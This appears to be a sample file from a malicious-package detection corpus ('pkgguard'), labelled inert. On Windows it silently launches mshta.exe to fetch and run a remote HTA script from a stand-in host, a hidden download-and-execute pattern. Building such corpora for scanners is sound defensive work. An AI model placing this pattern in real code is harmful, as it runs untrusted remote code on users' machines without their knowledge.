# pkgguard corpus 450 (download-execute), modelled on [empirical]; inert, never run.
import subprocess
import sys

if sys.platform == "win32":
    subprocess.Popen(["mshta.exe", "https://cdn-assets.example/setup.hta"], creationflags=0x08000000)
